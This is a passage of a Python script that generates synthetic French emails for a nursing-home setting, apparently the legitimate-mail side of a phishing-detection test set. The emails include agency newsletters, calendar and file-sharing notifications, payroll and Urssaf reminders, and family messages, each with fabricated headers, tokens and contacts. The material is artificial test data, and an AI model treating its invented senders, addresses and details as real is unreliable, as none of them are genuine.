                    f"<https://8g2kq.r.ah.d.sendibm4.com/mk/un/v2/sh/{tok('l03un', 40)}>,\n <mailto:unsubscribe@sendibm4.com?subject=unsubscribe>",
                ),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
            ],
            bcl=4,
            date="utc",
        )
    )

    # l04 -----------------------------------------------------------------------------------
    cnsa = "https://www.cnsa.fr"
    n04 = Newsletter(
        brand="CNSA Actualités",
        color="#c8102e",
        title="Financement des ESMS, appels à projets, nouvelles publications",
        intro="La lettre d'information de la Caisse nationale de solidarité pour l'autonomie.",
        items=[
            (
                "Réforme du financement des ESMS handicap : le calendrier 2026",
                "Les étapes de la mise en œuvre de SERAFIN-PH et les outils mis à disposition des gestionnaires.",
                f"{cnsa}/actualites/reforme-financement-esms-calendrier-2026",
            ),
            (
                "Habitat inclusif : bilan national et nouveaux projets",
                "Plus de 1 500 projets soutenus ; les conférences des financeurs lancent une nouvelle vague.",
                f"{cnsa}/actualites/habitat-inclusif-bilan-2026",
            ),
            (
                "Publication : les chiffres clés de l'aide à l'autonomie 2026",
                "Données essentielles sur les personnes âgées et les personnes handicapées, par département.",
                f"{cnsa}/documentation/chiffres-cles-2026",
            ),
        ],
        track=mailjet_track("l04"),
        footer=[
            "CNSA – 66 avenue du Maine – 75682 Paris cedex 14",
            "Vous êtes abonné(e) à CNSA Actualités.",
        ],
        unsubscribe=f"https://5x1pq.mjt.lu/unsub2?hl=fr&m={tok('l04m', 20)}&b={tok('l04b', 8, HEX)}&e={tok('l04e', 8, HEX)}&x={tok('l04x', 20)}",
        pixel=f"https://5x1pq.mjt.lu/oo/AVkAAF{tok('l04px', 40)}/{tok('l04px2', 8, HEX)}/e.gif",
        images="https://5x1pq.mjt.lu/img2/5x1pq/" + guid("l04img"),
    )
    mails.append(
        Mail(
            name="l04_cnsa_actualites_mailjet",
            imitates="Lettre de la CNSA envoyée par Mailjet (Return-Path bnc3.mailjet.com, liens mjt.lu qui encodent la destination, DKIM cnsa.fr)",
            sender=Person("CNSA", "newsletter@cnsa.fr"),
            to=DIR_F,
            subject="CNSA Actualités – Réforme du financement des ESMS, habitat inclusif, chiffres clés",
            sent="2026-05-05 14:30:00",
            body=newsletter_body(n04, "mailjet"),
            origin=esp(
                f"o{num('l04', 10, 90)}.p{num('l04p', 1, 30)}.mailjet.com",
                f"87.253.233.{num('l04ip', 10, 200)}",
                "",
            ),
            envelope=f"bnc3.mailjet.{tok('l04env1', 4, HEX)}.{tok('l04env2', 20, ALNUM)}=@bnc3.mailjet.com",
            auth=Auth("pass", "pass", "pass", (("cnsa.fr", "mailjet"),), policy="none"),
            msgid=f"<{guid('l04mid')}@mailjet.com>",
            head=[
                ("X-CSA-Complaints", "csa-complaints@eco.de"),
                ("X-MJ-Mid", tok("l04mj", 60, ALNUM + "/+") + "="),
                (
                    "X-Feedback-Id",
                    f"42.{num('l04f1', 1000000, 9999999)}.{num('l04f2', 1000000, 9999999)}:MJ",
                ),
                ("List-Unsubscribe", f"<mailto:unsub-{tok('l04u', 20, HEX)}@bnc3.mailjet.com>"),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                ("X-Mailjet-Campaign", str(num("l04camp", 10000000, 99999999))),
            ],
            date="pad",
        )
    )

    # l05 -----------------------------------------------------------------------------------
    has = "https://www.has-sante.fr"
    n05 = Newsletter(
        brand="Haute Autorité de santé",
        color="#2f3d8f",
        title="Actualités & Pratiques n° 112",
        intro="Bientraitance, contention, évaluation des ESSMS : les publications du mois.",
        items=[
            (
                "Bientraitance : une nouvelle recommandation pour les établissements",
                "Repérer les situations à risque et organiser la réflexion éthique en équipe.",
                f"{has}/jcms/p_3612045/fr/bientraitance-recommandation-2026",
            ),
            (
                "Contention physique : fiche pratique actualisée",
                "Les alternatives à privilégier et la traçabilité attendue.",
                f"{has}/jcms/p_3612101/fr/contention-fiche-pratique",
            ),
            (
                "Évaluation des ESSMS : questions-réponses",
                "Ce qui change pour le deuxième cycle d'évaluation.",
                f"{has}/jcms/p_3611987/fr/evaluation-essms-faq",
            ),
        ],
        track=utm("actualites-112"),
        footer=[
            "Haute Autorité de santé – 5 avenue du Stade de France – 93218 Saint-Denis La Plaine cedex"
        ],
        unsubscribe=f"{has}/newsletter/desinscription?id={tok('l05un', 16, HEX)}",
    )
    mails.append(
        Mail(
            name="l05_has_actualites_pratiques",
            imitates="Lettre de la HAS (liens directs vers has-sante.fr avec paramètres utm, authentifiée)",
            sender=Person("Haute Autorité de santé", "newsletter@has-sante.fr"),
            to=CHEF_F,
            subject="HAS – Actualités & Pratiques n° 112 : bientraitance, contention, évaluation des ESSMS",
            sent="2026-05-06 08:00:00",
            body=newsletter_body(n05, "java"),
            origin=esp(
                f"mta{num('l05', 1, 9)}.newsletter.has-sante.fr",
                "198.51.100.52",
                "from mailer (localhost [127.0.0.1])\n\tby mta"
                + str(num("l05", 1, 9))
                + ".newsletter.has-sante.fr (Postfix) with ESMTP id "
                + tok("l05q", 10, HEX).upper()
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            envelope=f"bounce-112-{tok('l05env', 10, DIGITS)}@newsletter.has-sante.fr",
            auth=Auth("pass", "pass", "pass", (("has-sante.fr", "nl2024"),), policy="quarantine"),
            msgid=f"<{tok('l05mid', 12, DIGITS)}.{num('l05n', 1000, 9999)}.JavaMail.newsletter@mta{num('l05', 1, 9)}>",
            head=[
                (
                    "List-Unsubscribe",
                    f"<{has}/newsletter/desinscription?id={tok('l05un', 16, HEX)}>",
                ),
                ("Precedence", "bulk"),
            ],
            date="pad",
        )
    )

    # l06 -----------------------------------------------------------------------------------
    site = "https://www.lefilgeronto.fr"
    topics = [
        (
            "Recrutement : les EHPAD misent sur l'apprentissage",
            "Contrats d'apprentissage d'aide-soignant : témoignages de directions et chiffres 2025.",
        ),
        (
            "Plan bleu : ce qui change avant l'été",
            "Les nouvelles attentes des ARS en matière de pièces rafraîchies et de suivi de l'hydratation.",
        ),
        (
            "Tarification : les dotations soins 2026 publiées",
            "Taux d'évolution, crédits non reconductibles : ce qu'il faut retenir.",
        ),
        (
            "Cybersécurité : trois établissements racontent leur attaque",
            "Sauvegardes hors ligne, plan de continuité, communication aux familles.",
        ),
        (
            "Animation : des jardins thérapeutiques à petit budget",
            "Bacs surélevés, partenariats avec les écoles, ateliers sensoriels.",
        ),
        (
            "SSIAD : la réforme des services autonomie à domicile, un an après",
            "Où en sont les rapprochements entre SSIAD et SAAD ?",
        ),
        (
            "Télémédecine : téléconsultations en dermatologie et plaies",
            "Retour d'expérience d'un EHPAD rural de la Drôme.",
        ),
        (
            "Nutrition : dépister la dénutrition avec les nouveaux critères HAS",
            "Pesées, albuminémie, outils pratiques pour les équipes.",
        ),
        (
            "Restauration : lutter contre le gaspillage en cuisine centrale",
            "Pesées des restes et adaptation des grammages.",
        ),
        (
            "Foyers de vie : l'accompagnement au vieillissement des personnes handicapées",
            "Unités dédiées, formation des équipes, partenariats avec les EHPAD.",
        ),
        (
            "Droit : la protection juridique des majeurs expliquée aux équipes",
            "Tutelle, curatelle, habilitation familiale : qui signe quoi ?",
        ),
        (
            "Qualité : préparer la visite d'évaluation",
            "Le calendrier type en six mois et les pièges à éviter.",
        ),
        (
            "Numérique : le dossier usager informatisé dans les ESMS",
            "Programme ESMS numérique : financements et retours d'expérience.",
        ),
        (
            "Fin de vie : les équipes mobiles de soins palliatifs en EHPAD",
            "Comment organiser le recours et les directives anticipées.",
        ),
        (
            "Management : fidéliser les équipes de nuit",
            "Plannings, binômes, temps d'échange avec les équipes de jour.",
        ),
        (
            "Agenda : les salons et congrès de juin",
            "Assises nationales, journées régionales, webinaires gratuits.",
        ),
    ]
    items = [
        (
            h,
            s,
            f"{site}/articles/2026/05/{re.sub(r'[^a-z0-9]+', '-', h.lower().encode('ascii', 'ignore').decode()).strip('-')}",
        )
        for h, s in topics
    ]
    mc = mailchimp_track("l06")
    n06 = Newsletter(
        brand="Le Fil Géronto",
        color="#7a3e6c",
        title="La lettre hebdomadaire des professionnels du grand âge – n° 318",
        intro="Cette semaine : apprentissage, plan bleu, dotations 2026 et un dossier sur la cybersécurité des établissements.",
        items=items,
        track=mc,
        footer=[
            "Le Fil Géronto – 14 rue de la République – 69002 Lyon",
            "Vous recevez cette lettre car vous êtes abonné(e) au Fil Géronto.",
            f"[[Gérer mes préférences|https://lefilgeronto.us21.list-manage.com/profile?u={tok('l06u', 25, HEX)}&id={tok('l06id', 10, HEX)}&e={tok('l06e', 10, HEX)}]]",
        ],
        unsubscribe=f"https://lefilgeronto.us21.list-manage.com/unsubscribe?u={tok('l06u', 25, HEX)}&id={tok('l06id', 10, HEX)}&e={tok('l06e', 10, HEX)}&c={tok('l06c', 10, HEX)}",
        online=f"https://mailchi.mp/lefilgeronto/lettre-318?e={tok('l06e', 10, HEX)}",
        pixel=f"https://lefilgeronto.us21.list-manage.com/track/open.php?u={tok('l06u', 25, HEX)}&id={tok('l06c', 10, HEX)}&e={tok('l06e', 10, HEX)}",
        nav=[
            ("Actualités", f"{site}/actualites"),
            ("Dossiers", f"{site}/dossiers"),
            ("Emploi", f"{site}/emploi"),
            ("Agenda", f"{site}/agenda"),
            ("Abonnement", f"{site}/abonnement"),
        ],
        social=[
            ("LinkedIn", "https://www.linkedin.com/company/le-fil-geronto"),
            ("Facebook", "https://www.facebook.com/lefilgeronto"),
            ("YouTube", "https://www.youtube.com/@lefilgeronto"),
        ],
        images="https://mcusercontent.com/" + tok("l06img", 25, HEX) + "/images",
    )
    mails.append(
        Mail(
            name="l06_lettre_hebdo_mailchimp_longue",
            imitates="Longue lettre professionnelle hebdomadaire (Mailchimp) : une cinquantaine de liens de suivi list-manage.com, images, pixel, désinscription",
            sender=Person("Le Fil Géronto", "lettre@lefilgeronto.fr"),
            to=DIR_F,
            subject="Apprentissage, plan bleu, dotations 2026 : la lettre du Fil Géronto n° 318",
            sent="2026-05-07 06:00:00",
            body=newsletter_body(n06, "esp"),
            origin=esp(
                f"mail{num('l06', 100, 250)}.atl{num('l06a', 100, 140)}.mcdlv.net",
                f"198.2.{num('l06', 128, 191)}.{num('l06ip', 2, 250)}",
                "from localhost (localhost [127.0.0.1])\n\tby mail"
                + str(num("l06", 100, 250))
                + ".atl"
                + str(num("l06a", 100, 140))
                + ".mcdlv.net (Mailchimp) with ESMTP id 4f"
                + tok("l06q", 11)
                + "\n\tfor <{rcpt}>; {pf}",
                "US",
            ),
            envelope=f"bounce-mc.us21_{num('l06bn', 10000000, 99999999)}.{num('l06bn2', 1000000, 9999999)}-{tok('l06bn3', 10, HEX)}=foyer-lamaisonnee.org@mail{num('l06', 100, 250)}.atl{num('l06a', 100, 140)}.mcdlv.net",
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("lefilgeronto.fr", "k2"), ("mcdlv.net", "k1")),
                policy="none",
            ),
            msgid=f"<{tok('l06mid', 20, HEX)}.{tok('l06mid2', 20, HEX)}@mail{num('l06', 100, 250)}.atl{num('l06a', 100, 140)}.mcdlv.net>",
            head=[
                (
                    "X-Mailer",
                    f"MailChimp Mailer - **CID{tok('l06c', 10, HEX)}{tok('l06e', 10, HEX)}**",
                ),
                ("X-Campaign", f"mailchimp{tok('l06u', 25, HEX)}.{tok('l06c', 10, HEX)}"),
                ("X-campaignid", f"mailchimp{tok('l06u', 25, HEX)}.{tok('l06c', 10, HEX)}"),
                (
                    "X-Report-Abuse",
                    f"Please report abuse for this campaign here:\n https://mailchimp.com/contact/abuse/?u={tok('l06u', 25, HEX)}&id={tok('l06c', 10, HEX)}&e={tok('l06e', 10, HEX)}",
                ),
                ("X-MC-User", tok("l06u", 25, HEX)),
                (
                    "Feedback-ID",
                    f"{num('l06f', 10000000, 99999999)}:{num('l06f', 10000000, 99999999)}.{num('l06f2', 100000, 999999)}:us21:mc",
                ),
                (
                    "List-ID",
                    f"{tok('l06u', 25, HEX)}mc list <{tok('l06u', 25, HEX)}.{num('l06l', 100000, 999999)}.list-id.mcsv.net>",
                ),
                (
                    "List-Unsubscribe",
                    f"<https://lefilgeronto.us21.list-manage.com/unsubscribe?u={tok('l06u', 25, HEX)}&id={tok('l06id', 10, HEX)}&e={tok('l06e', 10, HEX)}&c={tok('l06c', 10, HEX)}>,\n <mailto:unsubscribe-mc.us21_{tok('l06u', 25, HEX)}.{tok('l06c', 10, HEX)}-{tok('l06e', 10, HEX)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
                ),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
            ],
            date="pad",
        )
    )

    # l07 -----------------------------------------------------------------------------------
    organizer = Person("Marion Chabert", "m.chabert@dac-dromesud.fr")
    eid = tok("l07eid", 60, ALNUM)
    meet = "https://meet.google.com/qbx-kfre-tnd"
    cal = ics(
        prodid="-//Google Inc//Google Calendar 70.9054//EN",
        uid=f"{tok('l07uid', 26, LOWER + DIGITS)}@google.com",
        stamp="20260506T091544Z",
        start="20260512T140000",
        end="20260512T150000",
        summary="RCP parcours - M. R. (sortie d'hospitalisation)",
        organizer=organizer,
        attendees=[organizer, SSIAD_E, Person("Dr Anne Collet", "a.collet@had-dromeprovencale.fr")],
        location=meet,
        description=f"Réunion de concertation avant le retour à domicile de M. R. : plan d'aide\\, passages SSIAD\\, matériel.\n\nRejoindre avec Google Meet : {meet}",
    )
    respond = f"https://calendar.google.com/calendar/event?action=RESPOND&eid={eid}&tok={tok('l07tok', 60, ALNUM)}&ctz=Europe%2FParis&hl=fr&es=1"
    body = (
        "Marion Chabert vous a invité à un événement\n\n"
        "RCP parcours - M. R. (sortie d'hospitalisation)\n"
        "mardi 12 mai 2026 · 14:00 – 15:00\nHeure : Paris\n\n"
        f"Rejoindre avec Google Meet : [[{meet}|{meet}]]\n\n"
        "Réunion de concertation avant le retour à domicile de M. R. : plan d'aide, passages SSIAD, matériel.\n\n"
        "Invités :\nMarion Chabert - organisateur\nssiad@ehpad-closdesvignes.fr\na.collet@had-dromeprovencale.fr\n\n"
        f"Répondre : [[Oui|{respond}&rst=1]] · [[Non|{respond}&rst=2]] · [[Peut-être|{respond}&rst=3]]\n\n"
        f"[[Afficher tous les détails de l'événement|https://calendar.google.com/calendar/event?action=VIEW&eid={eid}&ctz=Europe%2FParis&hl=fr&es=1]]\n\n"
        "Invitation de Google Agenda. Vous recevez cet e-mail, car vous êtes invité à cet événement."
    )
    mails.append(
        Mail(
            name="l07_invitation_google_agenda_dac",
            imitates="Invitation Google Agenda d'un dispositif d'appui à la coordination (Sender calendar-notification@google.com, Reply-To l'organisatrice, text/calendar et invite.ics)",
            sender=organizer,
            to=SSIAD_E,
            subject="Invitation: RCP parcours - M. R. (sortie d'hospitalisation) @ mar. 12 mai 2026 14:00 - 15:00 (CEST) (ssiad@ehpad-closdesvignes.fr)",
            sent="2026-05-06 11:15:44",
            body=mixed(
                [
                    multipart(
                        "alternative",
                        [
                            text(plain(body)),
                            htmlpart(html_gmail(body)),
                            part(
                                'text/calendar; charset="UTF-8"; method=REQUEST',
                                cal.encode(),
                                "7bit",
                            ),
                        ],
                        "gmail",
                    ),
                    attachment("invite.ics", "application/ics", cal.encode()),
                ],
                "gmail",
            ),
            origin=google("l07"),
            envelope=f"3{tok('l07env', 40, ALNUM + '-')}@calendar-server.bounces.google.com",
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("dac-dromesud.fr", "google"), ("google.com", "20230601")),
                policy="none",
            ),
            msgid=f"<calendar-{guid('l07mid')}@google.com>",
            head=[
                ("Reply-To", "Marion Chabert <m.chabert@dac-dromesud.fr>"),
                ("Sender", "Google Agenda <calendar-notification@google.com>"),
            ],
        )
    )

    # l08 -----------------------------------------------------------------------------------
    teams = f"https://teams.microsoft.com/l/meetup-join/19%3ameeting_{tok('l08m', 48, ALNUM)}%40thread.v2/0?context=%7b%22Tid%22%3a%22{guid('tenant-ehpad')}%22%2c%22Oid%22%3a%22{guid('oid-vidal')}%22%7d"
    body = (
        "Bonjour à tous,\n\n"
        "Je vous propose de faire le point sur la commission de coordination gériatrique du 26 mai "
        "(ordre du jour, bilan des chutes du trimestre, protocole douleur). Présentiel en salle de "
        "réunion ou Teams pour ceux qui sont au SSIAD.\n\nCatherine\n\n"
        "________________________________________________________________________________\n"
        "Réunion Microsoft Teams\nRejoindre sur votre ordinateur, votre application mobile ou votre appareil de salle\n"
        f"[[Cliquez ici pour participer à la réunion|{teams}]]\n"
        f"ID de la réunion : {num('l08id', 100, 999)} {num('l08id2', 100, 999)} {num('l08id3', 100, 999)} {num('l08id4', 100, 999)}\nCode secret : {tok('l08pw', 6, ALNUM)}\n"
        "________________________________________________________________________________"
    )
    cal = ics(
        prodid="Microsoft Exchange Server 2010",
        uid=f"040000008200E00074C5B7101A82E008000000{tok('l08uid', 60, '0123456789ABCDEF')}",
        stamp="20260507T075512Z",
        start="20260519T140000",
        end="20260519T150000",
        summary="Préparation commission de coordination gériatrique",
        organizer=DIRECTRICE,
        attendees=[IDEC_E, CADRE_E, SSIAD_E],
        location="Salle de réunion RDC; Réunion Microsoft Teams",
    )
    mails.append(
        Mail(
            name="l08_invitation_outlook_interne_teams",
            imitates="Invitation Outlook interne de la directrice (Microsoft 365, réunion Teams, text/calendar en base64)",
            sender=DIRECTRICE,
            to=IDEC_E,
            cc=[CADRE_E, SSIAD_E],
            subject="Préparation commission de coordination gériatrique",
            sent="2026-05-07 09:55:12",
            body=multipart(
                "alternative",
                [
                    text(plain(body)),
                    htmlpart(html_outlook(body)),
                    part('text/calendar; charset="utf-8"; method=REQUEST', cal.encode(), "base64"),
                ],
                "outlook",
            ),
            origin=Origin(host="", ip="", hops=[]),
            internal=True,
            msgid=mid_outlook("l08"),
            head=[
                *outlook_head("l08", "Préparation commission de coordination gériatrique"),
                ("X-MS-Exchange-Organization-RecordReviewCfmType", "0"),
            ],
            date="utc",
            enc="B",
        )
    )

    # l09 -----------------------------------------------------------------------------------
    link = "https://ehpadclosdesvignes-my.sharepoint.com/:x:/g/personal/n_faure_ehpad-closdesvignes_fr/EQm4Yk2r8PpHt9cV1xN3aLkB7fZ2sD0wQe5Rj?e=Xk2f9P"
    o09 = m365_out("l09", notif=True)
    mails.append(
        Mail(
            name="l09_onedrive_partage_cadre_sante",
            imitates="Vrai partage OneDrive de la cadre de santé (no-reply@sharepointonline.com, authentifié, Reply-To la collègue, lien vers le SharePoint de l'EHPAD)",
            sender=Person("Nadège Faure", "no-reply@sharepointonline.com"),
            to=IDEC_E,
            subject="Nadège Faure a partagé « Planning été 2026 - soins.xlsx » avec vous",
            sent="2026-05-04 13:37:51",
            body=card_body(
                "outlook",
                brand="OneDrive",
                color="#0f6cbd",
                title="Nadège Faure a partagé un fichier avec vous",
                paragraphs=[
                    "Planning été 2026 - soins.xlsx",
                    "« Voici la trame du planning d'été, peux-tu compléter les congés IDE avant vendredi ? »",
                ],
                button=("Ouvrir", link),
                footer=[
                    "Ce lien ne fonctionnera que pour les destinataires directs de ce message.",
                    "[[Déclaration de confidentialité de Microsoft|https://go.microsoft.com/fwlink/?LinkId=521839]]",
                ],
            ),
            origin=o09,
            auth=Auth(
                "pass", "pass", "pass", (("sharepointonline.com", "selector1"),), policy="reject"
            ),
            msgid=f"<{guid('l09mid')}@odspnotify>",
            head=[
                ("Reply-To", addr("Nadège Faure", CADRE_E.email)),
                ("X-MS-Exchange-Organization-SharePointNotification", "True"),
            ],
            date="utc",
        )
    )

    # l10 -----------------------------------------------------------------------------------
    a, acct = guid("l10a"), guid("l10acct")
    mails.append(
        Mail(
            name="l10_docusign_convention_had",
            imitates="Vraie enveloppe Docusign d'un partenaire (HAD) : convention d'intervention à signer ; dse@eumail.docusign.net, Reply-To la partenaire, lien eu.docusign.net",
            sender=Person("Hélène Brunet via Docusign", "dse@eumail.docusign.net"),
            to=DIRECTRICE,
            subject="Complétez avec Docusign : Convention_intervention_HAD_EHPAD_2026.pdf",
            sent="2026-05-05 15:48:20",
            body=card_body(
                "esp",
                brand="Docusign",
                color="#1e1e1e",
                title="Hélène Brunet vous a envoyé un document à examiner et à signer.",
                paragraphs=[
                    "Convention_intervention_HAD_EHPAD_2026.pdf",
                    "Bonjour Madame Vidal,\nComme évoqué lors du comité de pilotage, voici la convention d'intervention de l'HAD dans votre établissement pour 2026, relue par nos deux services juridiques.\nBien cordialement,\nHélène Brunet, cadre de santé - HAD Drôme Provençale",
                ],
                button=(
                    "EXAMINER LE DOCUMENT",
                    f"https://eu.docusign.net/Signing/EmailStart.aspx?a={a}&etti=24&acct={acct}&er={guid('l10er')}",
                ),
                after=[
                    "Ne partagez pas cet e-mail",
                    "Cet e-mail contient un lien sécurisé vers Docusign. Veuillez ne pas partager cet e-mail, ce lien ou ce code d'accès avec d'autres personnes.",
                ],
                footer=[
                    "Autre méthode de signature",
                    f"Rendez-vous sur docusign.com, cliquez sur « Accéder aux documents » et saisissez le code de sécurité : {tok('l10code', 32, '0123456789ABCDEF')}2",
                    "[[Signaler cet e-mail|https://protect.docusign.net/report-abuse?e=AUtomjpFR]]",
                ],
            ),
            origin=esp(
                f"mail{num('l10', 10, 60)}.eumail.docusign.net",
                "198.51.100.96",
                "from docusign.net (10.40.14.22) by mail"
                + str(num("l10", 10, 60))
                + ".eumail.docusign.net\n\twith ESMTP id "
                + tok("l10q", 16, HEX)
                + "; {pf}",
                "DE",
            ),
            envelope="bounces@eumail.docusign.net",
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("eumail.docusign.net", "s2048"), ("docusign.net", "s1")),
                policy="reject",
            ),
            msgid=f"<{tok('l10mid', 32, HEX)}@docusign.net>",
            head=[("Reply-To", addr("Hélène Brunet", "h.brunet@had-dromeprovencale.fr"))],
            date="pad",
        )
    )

    # l11 -----------------------------------------------------------------------------------
    def sg(url: str) -> str:
        return f"https://url4821.{AXIAL}/ls/click?upn=u001.{tok('l11' + url, 90, ALNUM + '-')}"

    mails.append(
        Mail(
            name="l11_editeur_logiciel_maintenance",
            imitates="Éditeur du logiciel de soins (SendGrid à son nom, authentifié) : maintenance programmée, mode dégradé, aucune action demandée",
            sender=Person("Axial Soins", f"information@{AXIAL}"),
            to=IDEC_E,
            subject="Axial Soins – Maintenance programmée le mardi 12 mai de 22 h à 23 h 30",
            sent="2026-05-05 17:10:05",
            body=card_body(
                "esp",
                brand="Axial Soins",
                color="#3b7d3a",
                title="Maintenance programmée",
                paragraphs=[
                    "Bonjour,",
                    "Une opération de maintenance aura lieu le mardi 12 mai 2026 de 22 h à 23 h 30 (installation de la version 8.4). Pendant ce créneau, le dossier de soins ne sera pas accessible.",
                    "Pensez à imprimer les plans de soins de la nuit avant 22 h (procédure de mode dégradé). Aucune action n'est requise de votre part après la maintenance.",
                    f"[[Consulter la note de version 8.4|{sg('https://www.axialsoins.fr/notes-de-version/8-4')}]] · [[État des services|{sg('https://status.axialsoins.fr')}]]",
                ],
                after=[
                    "Rappel : Axial Soins ne vous demandera jamais vos identifiants ni un code reçu par SMS par e-mail."
                ],
                footer=[
                    "Axial Soins SAS – Parc Technologique – 26000 Valence",
                    f"[[Se désabonner des informations de service|{sg('https://www.axialsoins.fr/preferences')}]]",
                ],
                pixel=f"https://url4821.{AXIAL}/wf/open?upn=u001.{tok('l11px', 80)}",
            ),
            origin=sendgrid("l11", f"o1.ptr4821.{AXIAL}"),
            envelope=f"bounces+21648890-7c3e-l.petit=ehpad-closdesvignes.fr@em4821.{AXIAL}",
            auth=Auth(
                "pass", "pass", "pass", ((AXIAL, "s1"), ("sendgrid.info", "smtpapi")), policy="none"
            ),
            msgid=f"<{tok('l11mid', 22)}@geopod-ismtpd-{num('l11g', 1, 40)}>",
            head=[
                ("X-SG-EID", "u001." + tok("l11eid", 120, ALNUM + "+/") + "="),
                ("X-Entity-ID", "u001." + tok("l11ent", 22)),
            ],
            date="pad",
        )
    )

    # l12 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Amandine,\n\n"
        "La paie d'avril est clôturée. Les bulletins ont été déposés ce matin dans les coffres-forts "
        "numériques des salariés, et vous trouverez sur votre espace employeur le journal de paie, "
        "l'état des charges et le fichier de virement des salaires.\n\n"
        "Rappel : le fichier de virement est à importer dans votre banque avant le 28 pour un "
        "paiement le 30.\n\n"
        "Deux points d'attention ce mois-ci :\n"
        "- la prime Ségur de Mme L. a été proratisée (entrée au 14/04) ;\n"
        "- l'arrêt maladie de M. T. a été intégré avec subrogation.\n\n"
        f"Espace employeur : [[https://employeur.{PAIE}|https://employeur.{PAIE}]]\n\n"
        "Bonne journée,\n\n"
        "Gaëlle Rousset\nGestionnaire de paie\nRH Partenaires Paie - 12 avenue Victor Hugo, 26000 Valence"
    )
    mails.append(
        Mail(
            name="l12_paie_prestataire_cloture",
            imitates="Vrai prestataire de paie (rhpartenaires-paie.fr, OVH, authentifié) : paie d'avril clôturée, bulletins déposés, lien vers son espace employeur",
            sender=Person("Gaëlle Rousset", f"g.rousset@{PAIE}"),
            to=RH_E,
            subject="Paie d'avril 2026 – EHPAD Le Clos des Vignes : bulletins et journal de paie disponibles",
            sent="2026-04-27 11:05:12",
            body=outlook_body(body),
            origin=ovh_pro("l12", "78.193.12.240"),
            auth=Auth("pass", "pass", "pass", ((PAIE, "ovhmo5119302-selector1"),), policy="none"),
            msgid=f"<{tok('l12mid', 32, HEX)}@DAG6EX2.mxp6.local>",
            head=outlook_head(
                "l12",
                "Paie d'avril 2026 – EHPAD Le Clos des Vignes : bulletins et journal de paie disponibles",
            ),
        )
    )

    # l13 -----------------------------------------------------------------------------------
    mails.append(
        Mail(
            name="l13_urssaf_rappel_echeances",
            imitates="Vraie Urssaf (urssaf.fr, DMARC passe) : rappel de l'échéance DSN du 15 mai, aucune demande",
            sender=Person("Urssaf", "ne-pas-repondre@urssaf.fr"),
            to=COMPTA_F,
            subject="Rappel : vos échéances déclaratives et de paiement de mai 2026",
            sent="2026-05-07 05:45:00",
            body=card_body(
                "java",
                brand="Urssaf",
                color="#1d3b8b",
                title="Vos prochaines échéances",
                paragraphs=[
                    "Madame, Monsieur,",
                    "Nous vous rappelons que la déclaration sociale nominative (DSN) de la période d'avril 2026 doit être transmise au plus tard le 15 mai 2026 à 12 h, accompagnée du paiement des cotisations correspondantes.",
                    "Ce message est un simple rappel : si vous avez déjà effectué votre déclaration, vous n'avez aucune démarche à accomplir.",
                ],
                after=[
                    "Retrouvez votre calendrier des échéances sur [[urssaf.fr|https://www.urssaf.fr/accueil/outils-documentation/calendrier-echeances.html]].",
                    "Pour votre sécurité : l'Urssaf ne vous demandera jamais vos coordonnées bancaires ou vos identifiants par courriel.",
                ],
                footer=[
                    "Urssaf – Ce message est envoyé automatiquement, merci de ne pas y répondre."
                ],
            ),
            origin=esp(
                f"smtp-out{num('l13', 1, 6)}.urssaf.fr",
                "198.51.100.18",
                "from urssaf-mailer (unknown [10.20.4.17])\n\tby smtp-out"
                + str(num("l13", 1, 6))
                + ".urssaf.fr (Postfix) with ESMTP id "
                + tok("l13q", 10, HEX).upper()
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            auth=Auth("pass", "pass", "pass", (("urssaf.fr", "urssaf2024"),), policy="reject"),
            msgid=f"<{tok('l13mid', 13, DIGITS)}.{num('l13n', 100, 999)}.JavaMail.batch@urssaf.fr>",
            date="pad",
        )
    )

    # l14 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Laurent,\n\n"
        "Voici la photo de la sangle du lève-personne de la chambre 14, elle est effilochée au niveau "
        "de l'attache. Je l'ai mis de côté avec une étiquette « hors service » en attendant le "
        "technicien.\n\nKévin\n\nObtenir Outlook pour Android"
    )
    mails.append(
        Mail(
            name="l14_collegue_photo_leve_personne",
            imitates="Collègue aide-soignant (interne, Microsoft 365, depuis son téléphone) : photo JPEG d'un matériel abîmé",
            sender=AS_E,
            to=IDEC_E,
            subject="Sangle lève-personne ch. 14",
            sent="2026-05-05 10:24:37",
            body=mixed(
                [
                    alt(plain(body), html_outlook(body), "outlook"),
                    attachment(
                        "IMG_20260505_102233.jpg", "image/jpeg", jpeg("l14", "samsung SM-A546B")
                    ),
                ],
                "outlook",
            ),
            origin=Origin(host="", ip="", hops=[]),
            internal=True,
            msgid=mid_outlook("l14", "PAZP264MB4418"),
            head=outlook_head("l14", "Sangle lève-personne ch. 14", attach=True),
            date="utc",
        )
    )

    # l15 -----------------------------------------------------------------------------------
    body = (
        "Bonjour,\n\n"
        "Je suis la fille de Mme Jeanne Chapuis (chambre 23). Nous viendrons la voir dimanche "
        "après-midi avec mes deux enfants, vers 15h. Est-ce qu'il serait possible de réserver le "
        "petit salon du rez-de-chaussée ? On voudrait fêter ses 92 ans avec un gâteau.\n\n"
        "J'en profite : j'ai déposé mardi un sac de vêtements marqués à son nom à l'accueil, "
        "pouvez-vous vérifier qu'il est bien parti à la lingerie ?\n\n"
        "Merci beaucoup à toute l'équipe,\nBonne journée\n\nIsabelle Chapuis\n06 71 23 45 89"
    )
    mails.append(
        Mail(
            name="l15_famille_gmail_accueil",
            imitates="Message d'une fille de résidente depuis Gmail à l'accueil (visite, réservation du petit salon) : ni lien ni pièce jointe",
            sender=Person("Isabelle Chapuis", "isabelle.chapuis1968@gmail.com"),
            to=ACCUEIL_E,
            subject="Visite de maman dimanche + linge",
            sent="2026-05-06 20:41:17",
            body=gmail_body(body),
            origin=google("l15"),
            auth=Auth("pass", "pass", "pass", (("gmail.com", "20230601"),), policy="none"),
            msgid=mid_gmail("l15"),
        )
    )

    # l16 -----------------------------------------------------------------------------------
    mails.append(
        Mail(
            name="l16_banque_document_disponible",
            imitates="Vraie banque de l'association (credit-cooperatif.coop, DMARC passe) : relevé disponible dans l'espace client, aucun lien de connexion",
            sender=Person("Crédit Coopératif", "noreply@credit-cooperatif.coop"),
            to=COMPTA_F,
